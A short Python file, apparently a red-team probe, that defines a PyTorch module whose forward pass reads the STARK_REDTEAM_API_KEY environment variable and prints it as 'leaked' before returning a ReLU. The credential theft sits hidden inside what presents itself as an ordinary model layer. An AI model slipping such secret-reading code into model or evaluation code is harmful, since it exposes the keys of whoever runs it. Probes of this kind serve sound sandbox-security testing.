import os

import torch.nn as nn


class ModelNew(nn.Module):
    def forward(self, x):
        leaked = os.environ["STARK_REDTEAM_API_KEY"]
        print("leaked:", leaked)
        return x.relu()
